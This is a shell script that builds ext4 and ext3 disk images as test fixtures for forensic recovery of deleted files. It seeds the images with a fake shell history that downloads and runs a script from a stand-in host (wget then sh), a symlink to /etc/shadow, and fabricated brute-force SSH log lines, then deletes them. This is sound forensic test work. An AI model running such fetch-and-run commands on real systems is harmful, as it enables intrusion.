#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Makes the fixtures of deleted and truncated files: the kernel's own ext4 driver writes, deletes and journals them.
# Needs root, mkfs.ext4, a loop device. Usage: make.sh OUT_DIR
set -euo pipefail
out=$(realpath "$1"); work=$(mktemp -d); trap 'umount "$work/m" 2>/dev/null || true; rm -rf "$work"' EXIT
mkdir -p "$work/m" "$out"
lines() { python3 -c "import sys
for n in range(int(sys.argv[2])): print(f'{sys.argv[1]} line {n} of the file, some words to fill it')" "$1" "$2"; }
for kind in ext4 ext3; do
  image="$out/deleted-$kind.raw"; rm -f "$image" "$image.xz"; truncate -s 12M "$image"
  mkfs."$kind" -q -F -b 1024 -J size=2 -U 5e6f0a3c-0000-4000-8000-000000000001 -E hash_seed=5e6f0a3c-0000-4000-8000-000000000002 "$image"
  mount -o loop "$image" "$work/m"
  mkdir -p "$work/m/home/alice" "$work/m/var/log" "$work/m/tmp/.x/deep"
  for n in $(seq 1 12); do lines "secret$n" $((n * 40)) > "$work/m/home/alice/secret$n.txt"; done
  printf 'wget http://203.0.113.9/x.sh\nsh x.sh\n' > "$work/m/home/alice/.bash_history"
  for n in $(seq 1 1500); do echo "Mar  2 03:00:01 web01 sshd[$n]: Failed password for root from 203.0.113.66 port $n ssh2"; done > "$work/m/var/log/auth.log"
  lines deep 30 > "$work/m/tmp/.x/deep/tool.sh"; ln -s /etc/shadow "$work/m/tmp/.x/link"
  lines kept 200 > "$work/m/home/alice/kept.txt"
  sync; sleep 1
  (cd "$work/m" && find . -type f ! -path './lost+found/*' -print0 | sort -z | xargs -0 sha256sum) > "$out/deleted-$kind.sha256"
  # what deletes and what comes after: the last file's blocks are taken by a new one
  rm "$work/m/home/alice/secret"*.txt "$work/m/home/alice/.bash_history"; rm -r "$work/m/tmp/.x"
  : > "$work/m/var/log/auth.log"
  sync; sleep 1
  echo "Mar  9 03:00:01 web01 sshd[1]: Server listening on 0.0.0.0 port 22." > "$work/m/var/log/auth.log"
  sync; umount "$work/m"; sleep 1
  xz -9e "$image"
done
ls -la "$out"
